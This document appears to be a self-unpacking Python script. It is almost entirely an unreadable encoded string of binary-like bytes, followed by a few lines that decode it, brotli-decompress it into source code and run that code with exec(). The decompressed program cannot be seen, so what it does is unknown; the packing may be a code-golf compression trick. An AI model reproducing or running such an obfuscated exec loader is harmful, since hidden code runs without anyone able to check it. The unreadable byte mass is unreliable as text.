s¹\Fe;l#?_G,c1n}A"^LabڨMXt_~ьŗ*DjXQiRwR_|Uq*~jHu~<"%'d˦Lǒ6Bk:NMWR&('tl
Į!#%{?9PNSo-6'wPi9U)з@U3ZlP{.i8lGwFFhcVOBգIOV/͌3E:ׯ7:bwFP5gԄLgPٹ+oAރ4KHT#d2YKLQr/ 8AZG217vHN-YTN	mλN.ŮLU;-}s;==~^drӌaFSխl2Y!tD	XFc	>FW;2:&Ñ.P^e%r`+&QYP{Y0ɓl#zޓd#UAҨ"eaS&D!WҮho;xROG""*LƠe2H_iG5c]l#;[Vfd"A_,rS$j(1U/jbԆQ5kŒd"(qi\f§٤T l[nyT\M?@+̵7ӯaιĚΠL\S:2M*Ԋe;07AXXg9.kP~%(HO}/K"E5bȜ=~É^ފ.o9gެD!zu̗uBU16cp4^ofӘ[bɒoCtr*(ϢS,ɼBuoF3UdDQjhC*0m߮!Ç,64o'e^حs;5#oՋ-
/=zܡ>%[jJzĹw6l1&0A07"
1)'D́Q11֯EC[j{NH#ՠKacy:Y%(PW:3h(4.OEJ\˸ہ+	g_dc^!y%Tfű̚zkك!ͿߒLɒƓ/Ubס5U_а(Qb*oD+ضՎ.x5ikڌ
.)*2T+1?y{5וQ:PԾF`.-oʲ$v̣vHӇ_hsBgّs->5pzȝGbs?80Xdݧ	+Q~"@f/0tp*~NJ0SIL7c/"c<͹ LD,*gJ(I+*5Ri|£ϖЅbl4?gMF0Rc
إpcj6fatpgLUߎkl--'tܓdx[؄XͿ|0"Opu	?>W`#T1ҿ)acߡ2:G^ɷ2ȇ7G(\P<um^[DRU	)wԝtP\E<)o֞cIN-gypғ6u 6~\7@_5J6G`6hηw,k'lM8dhz,v2~}GwQS:ۤ+εal@(Ʈ,"?p3,fC΃\]ȔP1s̏+QIBiZۍ$,en?"p{xj`s_6JEpmhގ$
$kFE
_ީg!jv|CCQn=Kw_։Ab;\p}הB:R\*,Ԙ-+0`oV6cMȾ߯ҟUUaIҼ)
0S(k&H( ܄+ME,c<[Y٫ǲcA]5ѭfbvo_Jf۳BkJ$Bt<I$iX6	,jŏE3@i˵NJ˞bɲsΣ]/G)JXNMR*qwh'3edNƊ\R[0o'\ݜFz+5נqT9 !5L*׉5lPЯ;Q=w (ޔx׽WLKYe)4>5/wPci
&9ʻ.՜tXMQO u6Ð]-DԴ?7616{pCU,'{>lɭQ#e|q 7Ō݅w7IzrgZ%7`
&32hmO`$MFly<f)'?@43(hHyeۯ+(1I+ۅi|PI~(J:s[ky`.q ݦyB"Vz)WЯϊAڶ{'!w&Wv@gkCLyfehXo-)7S3_}<AE[}̬tByo!a{bhO~|kf;&Q7^iܶCgtz Q%>ނJPڗc8wRS{SO jB̘t؎	eS֋UڇB bѽ0Ӌ0{	#h]@/cyl9Wdߏ};(?YoU^As]}kؿVԔΥPxVph9Qe=NOΏ{ؑpҨF?]EP=VL_'K	z'nX]ģEhֵ&kU,y	RyT>9I*'ogAcF[ Xvم-8p;	|B_~ţbӭ&ٶ'c/fT-iW*a*..A4ֽ=f[ܛPB֙(pMuTͦ9R<nށ1vƨٶǞI@Y4.!gkt{%Z9¯;*O\}Vzmt]PvKbɳ1uVD -K&ow,7V<DpS_wJ=UGE,:6Ґ%M@CL2U/RoHw0ax[0E$vjYޏ{?ԟͿ6o[{#D"2bgՑe9}2t7vq8c|Ɖ`)^p'gӦ;EW}`$*2{,хdӟXߕurϦ݁6ؑJcauj4]%2-GF΀bdX
`. 
3g?~vJvvO@KO`UyV	9ϫC/}6k[FhHƢi*nX-v;`fp>IPmǍ*)aJYqK)/RfI2r6.rrF-ԉkMZ0݋Ye<sMQϹL.NVq(/ąQY>H̯2Ro0̉F)LE,bg\J5."[|(.7:Xݒ`Y]md`B~؅#-~lxsb|Kİ8"HxMݞFX48:Y +~PKҤʵ{Tu0Y2k)Y~x{Hn/vYD6p+iߩ'pzIՍFæաw|8P]"ݛ-3',ԑgե־ {̢ڎolOX-(	$޼@-F.KʄدzH
W?xǢk00~}xtPC06˙WOӮپfIΘm#+5q-;bʋGuK5YRs9|#vS"?Fjhm_df܁Dd%*1CyV6
lՊO|WPwX%|f=8WڊOނKd$Q={KҲBb?ȸYObi4$7{Yzv`$ǟPU?ѾBC89q+V	'^H@MT~=M%ZCp^c}ԗ'	V~UNdhSIĴA5E|Ѡ.4"S8yrj:	,&+5D~DۋkXP%?Nضǉx՗iZ4Hƛطӗ)2ԉ-B
[0FY&UYֽŚZRl5A^@'\UXoCǶDIm3wawXmKmOrqH9thl)	xe,~erGAQ&˫VgSѲJjcDo9[3Z-,zB0uK494QUqoȼP
SPq3_Jȭ:cʝ(9.CpS-!H9'3(G$H1tl/ZXɓy*Y.
;8ǅ;Nݳ7X6x&̻0Ũ؈]((8Xן)@J{+=c`+?zjv>]UuzeӆÐTIyXotVd֢,QhXݎ9P|Δ<>Pqՙj»XѼb{ZғYOZBˆ
s`byZr$actӓɞ&PLڼ4b*I\̞Sr&hfcxA{{MV	DUg]JM.[t%EE\ݺ8;O2xX!`rny5ڧPۯ%RSӡ" MnFktѷ4?e -3BFɋgwKyݻ;[Ēa3`w~sPado]k0[̉xZlaJQ6$@"D	PtըV_G8X1gGh^7ۣ2'UA=&*uw-~kvְ7Q+#y	W
frļ)dŋb`_PyײZm0
|egPRlpцWLUEnJ.
<AL`5h{SɗjO]?#VZEJѮ([j0^OhHKK
βQ#I_:9݄97]80?X,Θo&1X5u32!UԷSj+cnݽ^QD<WE;ݎASDP2'\LȰ L\!sP~YZ$+W9
ߖ$ڿׂ_C~)&ίy7E%]WY
kQIm"Gޥ9KRB<Dy4v",H[ߩ7F[pvkUnCȑeǲ.imKDuwZ!EA5':B@_p]yMY:K0ojP]b۷RΪ^1`.t*Nhv~,d-|OߵU])VhlǇtŚS2kFh^,8Ӷ*%Ҥ*1M>`$'ARpƟҤ_AT/ vMdYk-Z]@w@}#C'rt{zIQWϖD¦#"ڼ	kPGۥaۜ75;q{f~m"\9vDЛ̻v_m"%ٌE8q+ vF5e4/"gHę>(O}RUqA^xmF2(Z$3AP|a yj=C,sHZ|c69;GkkDK<ģxZ/kՙ':%.J["Txڹ=Rls:EQ2z~K`Mo݁R˚Rф^c`SaFӥ~͹9G~1;˕shqb6)ILfǓ*~"@B" +;Ct~abw˲#]Qa,OjdLZgpd5@tq+JsGӮ2ˉM>J`ܷ4[5iM(d4	 T̵Fyǖ&ѰLWҲ|+[^Sy|^ݨ֒#5pߔƝz}
9R'+Ԏ,{h?-u%$EޯBê=VB֬u)`
@U;Zk!ԗwHNUڐiєTz!i3!`@y64^Z<6	IA)xpW?B44O:a<M	YHuhTY~k3,.`}8I/#Og}Cϡ!(KD{)M
Q_ڬ03&Fx'Rvm~viuUGJOXVBmŸ6sF͕PP'TP3R#ؿ"u0lx5P/7w/Xp:>Վ
2)tx__=|x-j8s};ȶZߠ|SɵRl)XQ׵k$6>a"6zİ݊ah<9d\_}XWL$1qDnóaգTs_<JpKa*ѭUsXt+(t
Xhnl9ox#հn.4#]?%f< &AJf	ɱN՜Hës_o,ٰ38
?σ!=dM@::h&/bB2Eh 5?7\Ù=3CE"n4"_'64a܈Ҷ}y̊-A+6'
kmPyjKuQɈb<J%n  !V5N&.gxckM7h]TXVN-P7Ʋ.c''i߸bQeR"p~euL9`J.+؄e[D'ϙC\Ӿdň1֋uĳg{UGw}Jϫ%6U!k;}D$ѐhfbH1^(MM~!dpptC8\680@sK|؍ɡJvx}>,AlJ,G[r6$$0+WV?FF-rJCвx{6geŃ
AiTG#T!WB<>~e6	T$LT'#8e
Υե/3({zϘ(D(wK]{ZV#HB}˦}/*#+r!ṣMW{ΐ٫x]ŉw݅d3J7CiT105D`ы{/OCWOło\3AA&=·r^ρUPx8u޵}
Ѷ}ӕnό%5XF*"ȟ"؃ACs<Ȗl֋#vBFLcl].{w]$_"<Q1XtUAǶvo%_xrzk@r>FVm+J#B!y^̤ULBY%`(_v2Ӏ}T`-S+Ztg%!f"`rR|82̡F,eNg&ֹ8%nd&5V/\*.|Œa<*?+,#>7mb&86s[p37#4>Cĥ CXgGAT]#YۥiK/r-)S8SU,]tEʦ(ơgp\+h15QoOĵAPC9ޱ/VfCÌV$xqk^} .ש(vBG
_U4nx_b*ڞfT2\'p.V1ne'ii-gE<3ay[~5EZz/"Jp6RwI8'ZYHX}YՠY)6g
c<>Z	ߘ$W!zeXNn~ӑՀ߈Dy -LOԖ^P48rb(Sּ0xKd+_U8DbG?.wlW($	A{Fw`	=]!*<'<TǜFʤngUi~_9V,I<N-˧DBnq-EԥB{ww4{ʶؿjޥ
YJ֓$Ę)i_ͬiF'+yRdS^KbNSFt#)(],Tm@Ҿs>?;F1]҇Eͮ>+@u.)yuc7i-${D$f`T((-͹H~aYKިXJ3ܑBwRdՍQr?CPN9I݄&XE+kĺǵ]ªNo!Z6g)-$0SX\W$C|ίC>Nz0^9iy"ղ1̖w[	0ISrϸWgAֵ@U{A߂t0])(~vmǏWP~mϓvuy+g"tG)^#p8bbOp7'sB42eDUpY243À-A>
/KrʤtBZӟQ\`A&f'HGOܢ
ؖpq?g;RĪ9bP]9v=ԺxjԆΪ\MB?GԄt+̚m6Q,SJȈEϺ/vTΕւ$\{0
tSasӖD!ڃHuYj5ak.SYȯ? GL[.@
םrײ'ظuz$ޔVܗԢEr*G
b9R3xۢ_GE^}<Hؚ}Jv?m֠@A)TH:3]BH;u#ǜFtԃ_"oy3%2`X	.WtVc6kAEkԜFV/_
ǌN1IF7tΐo|WK͋
Fb <1ڭCmE?e|MQցsaɞA@ёaLBGϏ$%{jMޕٛ=P?m?2URC\"'Be|#=-ȥa4޹TKԖ:(
b6hД.(#-RK5"%Ԛn^u|K^#3A}CQ{Ԟ[op>Ov8'	Mc?ĂffeW6'[T~sv(`?fI^oB0</pҔU]c"?Z<rraY4Nc._\7FbH54AҝO_4[Tk~>!&
aٔQT:"Ĭ*ɯGc~R5<u?FC|.ذ(w՟o50{>3<ǧG1J$1_~½x2E=ڹ$o[CM`/]#uL/~&˻V`9a"NG$UKPL&n`<Qы!K[VWgS0g/nl_
Xk^ؾβFWݼUȅ+iFL14y%Pez^WE jT+"2|gN@P.n4tח/5Q93;(Wsn8jٲk/$E	TrN/d\FFBg,nܴ"mb1
&¨b*1'o'Lhf̎Jt)AIX)yca\S%E,%*i2h6I:{;z	jQر[NC
$׿ZՌ~2]ezĠ$E$Arp~AyeԆ˙ΟWٟ7>߱l{-9w.ݭo!aBWMy̱bl!^0s7}$d8{Pckm'ǩC$	|hhRٍXӒAKNW`vRߌpi?˷/x"2dI&S7$lky0Ͼ 5m<u3j&fQ?,l5{ȳMR|,¯kGg|^3Zb6B%AcڴԨhy˻f46"MiN;IQ`ݛCªTNGiw
5hf+	ht%%>#Y[Hl$Ss*nPld4|ȗu0;w/6QH}*ߛx4Б{BݶH!}w_рgXޜSsہuF0br0$ֽK2ǧcީ>u[@t1bТ<x1q v5jJGUjŪCgAǃJ@NW%)ŕ9=S6nņ3֙OzfftaigVc5
ڒCbz V8*
wqjϣ@=~ #GΜylK4vloͷJ,
38!\Aa$>jW 9#dvDsuڅ_Ör!\7+eW`;ܮMcŒ.mCPH=0d$0o$>B6+W"Ha1׋\Q #@ʽc*'9IȟzC/Qv_A,oW<גHkyWZhEW2_kڙ%@lt4EdZdUelǂq@Xݟ_ҵCgc4!JsҬַb3kL	ICȹGhX~(n=uю{xd^cْ֬g+[HWVއE̼)`F
ŭϨ18Oq|y9i	m)1E\MmRa޲mmJd<	GXH$$$''RHio	ɹ).Ky	i<	y )lϻ3Wu,Id	BXSx˼F{E̶EXͳoq,ɣ<#.-
,-8545l`ߕ'(],BVH5z bAWW+l]p{1ٚ9@͊-32lcnӴߋָ`<vDcaCʂl/D^sy7f0&5`Į,\ GXl/9ӟӣɱ-юt͢5-xb=)~Sa@V2f!qOjMo{
˃ēA$fÓ\.$ơ?ҿ50]GdD'=)vJA9~5?j7pHO2JW4l-߫˭7m׎$V4_K/P#YM˟>J\˄WZaʾ,E!x|EnB
0@y
y)/wUņ%Ń?Dt0F^Cҭ֕368rw;y8p̩|SʪoyyTUlpOdFF`K{ۑ=μȄSs~m#Qo$k|u4>\m]ԥ3eb9$\ʗw5Bеixv#z"iI<{AѰx%jRb:֜Fa * YA5lnhf7jӔ޸5¬A\(WR	IW&L4`)&N(ЂS_;JB܊Q۸s/4I˻U(Q8PH}p֐ޙ\Ѡ+ebѺ؆<!	4BЁ'fAgof±nLJԹMpb++9?SX!<!El@{ϰ١Joć>G[6ƶMIHZ6X3}ܫl<^vּyZ0?1޺6ʮS\_R,\PfšuI?nNm\v!ǨޒQosXݑYuDQ-SLΔuNspԭ׬ù^W~VE`Kþ7`̜s/=vҟM3Y*ϒUUmDmU<2թ;Ɵ"\

:%bU[l?9aMAp0|	̠	_(]@Fgb:DIج¸z0"^ʓBAd~;~ͯ:bE Vą9upd;Y^,5Ӓֿ{PIV
VD}ƍ\50؇oʔ&&U)(Y82!Q[
|<>љB_w{Q-ny2fۮQ#;
λ$?t	2\ t-]ŏc*Jبb]/*bdQqyCv¼HWV|+єj$_é6ݶ;#p
vD|S]KͤG277ٻۮVzs=2vu_A7xaێU)Қx[ſ^qlD+X#{owGD9\\&5[QGaB2uz|Bz~0P[.8lx1zkͿhj&8^ŘՕO=a:dk~D8ƈ7ZXmleр-.Āw
NZ7]?väZe6HPͮԑw&p4ͣXvAa EqN<z=+mdIݑ
j(8
.6gz֨YxIRɚ$ݩAˏ(%xkdަGX~9[,֤N3pEwx)	@qYZϿP#\+ap}y]7aAPa)jͿ#Hs=J!G$mFÆs*=Gլ&:yt9z+1qNG?փFG/I07_#t
L8;cD(/v7Pؿhw]ٯcp28:_X'T.hC-R2Sƹ*kx#&jR?} ?ێA3U<^BЀGLC[)
Ws_M@?žhӌoٹԛ\ԏFNгOóԫ!2?ч[GJ205Ф\Sw`')}R:)glbb3֮[f,"|B`P\ƐBѧC,kQ2Jd)v33VDlcE_ga>tΞK`h˃O
@mԟa2ן83.27?w!tS7U!o"HX]΀3z&6NWEO#%IIU86oРeݿ'#irq҅˫m(%6_T`|-ǹU_o%Nm#C0<Z3e{h[aLCǈh^ӻ:Ƿ!:ZH5Mr<ѼgC7@DyLiǃǪIK($ڒqSا^]O3ǹTQQoWH:T8+;cÚB^H*SFN#uo5Fmh[EǬPlh7>GK)Dxʟi">[\'D.oֽ#?87h`$g\
r3aIYM5VƐZff}Xv4u:-cư[jq٫?>up_/Զ lGBŋǼX5_Q^Vfo҈d!B6d,gE˷W̅UL:wF:?hB߲pNɏ}(S!ַ<̑A?r5٣1'.+ȻIƿǦS9әM=Az\LhZwMhHbo	$ݵ1pblɆqj*QxMUKۆ-Z~H**1Oج
*ùїoI>BLuX߳.Ea-BW)לw bETS{ r
ϯqWՓ#n]6:ĊH.uݯʗCOQ=[ޟɧfێq5	yHas"h9Ο!	
י6|l^qچ.ȼHmtBHv͋_d"7ʝи9@AK߰	ޥhˇkcn8oچOFjCR`!NbR*idVo_Ї)*ABmo2|IjK/ĵXɓWZ0"|ܥjDAgz!HpB\6S[>BJʆ+|YEwD:qԪ9<2|ArjɃ*.Mά=JZPQ ÕϨFx?99P˫FO^-.Oݹ\hT@͋8Dnqj<W6Xܟu59pϷ1RoPCb0ؒ->9MOБ]ݟImt%Vҿ^ׇG^&C̡
pk+S'T
ӯWswY8ߺǟj^ ԪuOܛT9s2r:2يq6 ڠĪB jݘcFnt
̑7(=UD7hKW֟,مo:$Sї{)ە.k\6U-^wswOT19lVKt:QG	IjBMsiMaܧK^Os-7JWڂ1a>zkr8w]z^&ٱލIMZUFǓ+l3_M	p0MػRۤNk}!gZ::}],DiҌv)$_?r-aۍ{nYm
1mONLPrbģ%)+~@Wpc"}F-|=M΂C-&Lef:~oɓ)تӯ*TT6J>Q<׭֙T_Ϧߍ#ϟ2{}S2+pc<OU3ŉ|΄̍A]+i]&?
R4Oڲi|!|\ѷJOγgeC1k@sۙ~H65>,Raֿ(<PɦHmN8\i^e_ڍ
ۋw43"#T$d*dO"ͷ^Z̞KTܧ.waܵ9\\Mx&,gG_RqzWwڀz
4Sepmۇ1N/brNǗw1TW:ŀSp9D(V!àekFc9Z?ʂǪOU 2+B@0IlϮѕѰs%2:ו͹Xۻk&cܭ.<T_h*SZ`)Ӥ̔?ǳ2,Vrkq	2f+y֣|W&iV¿d0-&~&B56\'ޗtq5Jm)C]8ڵڗq5g"]plU_җ=oӜ3
n9pr](bn7a0@@#C3e6h!Nµ_r,Ўq)y(x{<_E[x9#ia?^ϏOtA=cc9^M+
0;ӻeĖ
hq J p`6vj`	ڛ \?}P"|Y5%4_)`B'{n(-#&?X<ϫB_6rRgeCį1US@Tޓ"g!v~?`'7ѧ߷`Pߊ # 9OJu)&˓݆ӏZ<95U7t+b2t#Tl"W\CXDƙ)NR۽:8ЈZNQD4V62`/:wTdPL=Y#akɛIJɭXB]H)ޠAyUj0??0ŷ9OT|P
uue*H[M_0T[}X|o%<3%]	Ȋ˯7&v,e!>S۶چW,MHQ`e+/hzѳxvo?/dOϖ.a!Ql1@ Jy W
 @oGچ?(g\LL#SWM=-`_KηГ5ŊfBZʨMՋ5T`&/c0ii~>ύ7X7GclF,RYʥW|? }Jkz<FeXq#ҨEԀksQoɞo#x5WKYIÝr>pqrѬVep96*^ؐ`͝ύ[OJiŪGxg]}k=lGjxW99@ȁ4`ٙ"L؄cל-,H_Ɇ$vHuNwXт~R"߼k`q-AFr6S+y@Wm(hûʿRnj<
ns/QcF,ȤL*׎JƽNBRǰJ:nѨƩ'o#`sͳ@]k]'_um̛#MpL==hnk>ڬBo=ϽKNwFWuaR;X9Th3Brӓ$ba:$MN˯)3ۢ\[~p(bŽA)r7>pܶshbV/h]x@J;PMeRϑ@J&2]@|"),ٰ	8!Y`Zl9\żů@h zӔɻ-Py~G7ζlu,E=gвŻ4E00̦/WjƲ5vT|^_]TTEYݰ/dL\$6E{2_T}Mq3`keݞyU|7
x8,)$|S,!\lW2G6"mO@sD^Ѫ1.)7Y|DfX]jNt#*ȑ2f,ɹZ$	|ozЙG)oѰLyhpG{FsLxx֍:Cܲn$:o2\
jeJ$	EɒRWW)o'uTHX@L79U\k.p:S_uBEȕ	n4)mV)&۲yZgQʉ>v0QZ_ʉtߌ}3pǭGOj:cSbp![6J|يBX=eϜ1AVٻl'r"@5X)l-e`UxޓA{7=u_vF!{'VfƧ)aq[e7?q>Uܿ?ϱ/B2joȽ[Aw-fzIaUznrQDUByr:`Rt@U2GpۥMS;|)i4XӑȻi,4pe~Pd܅Yh}z1wdzTFr-ѷQ_i.KT}G7P	0]%%;%icȞϯL?,ą=li!7 {ؔX{jIr\ű)Dq]DzfϊgU$ԤB[Ji"ݯ

Dw̵nCGGnrGfc8c? FG?QQ7%wϩ),ωM"Dbc{ŀ-IUz9:1a8ۡxըc`]|7¹<X#
uYTCm40T@DDEHٯzmH207%?TF>OWj6CƑJS#mөФ? ˜$cUr0+b֟uic8La1#1dDQ!a8 5̐Ƕe/I>^ނ'D%Dl\HG==\$3FL;YU&8\IWC.0Jrz̧Jz/qԵ%PA9$bh)MhB٣Ǻ=|;WڑKMQ̟iQF-/$0]DJ	4OG*328͢^Oj,YKT*SZ\R_ʇpa#i<ʲ$Xӥ,}~eqT=q}W8מlO^ɨƱ?vvz"O w>5 DkO%"c+CiWA3%/$!N`yG¬ܢ@v66@!IH*r8[М`>Z8o#`RTkS7g'l%V{w!ϬѝS-dFXF5$c3hƫF{jLHjWפKz:'xk4^">*Wlϛ33)Ah BL6v6	iUىLRe Ĕ:`lzw!NliIU8ؒze>.$m<wNr5fiQ	iyaɿPyՁߍ_MpR!?Y~Nc2%'vFp{1,9~&%$edq*l+vj(cLƿ`4ns[h?Rr"A2ݗѿ̓Uol$Ѓ#se#eK-G܁YW~K (@S(R7ϪPiۤqɘ
ǹF}c6.'..''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26347)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
